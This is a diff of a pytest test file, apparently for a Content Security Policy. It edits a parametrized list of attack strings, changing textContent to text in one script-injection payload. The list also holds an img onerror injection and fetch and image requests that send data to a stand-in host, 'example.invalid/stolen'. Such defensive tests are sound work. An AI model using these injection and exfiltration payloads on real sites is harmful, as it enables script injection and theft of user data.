@@ -112,7 +112,7 @@ def test_the_policy_allows_two_scripts_and_one_style_sheet_and_nothing_else(eigh
 @pytest.mark.parametrize(
     "attack",
     [
-        "const made = document.createElement('script'); made.textContent = 'window.run = 1'; document.body.append(made)",
+        "const made = document.createElement('script'); made.text = 'window.run = 1'; document.body.append(made)",
         "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.run = 1\">')",
         "new Image().src = 'https://example.invalid/stolen'",
         "fetch('https://example.invalid/stolen')",
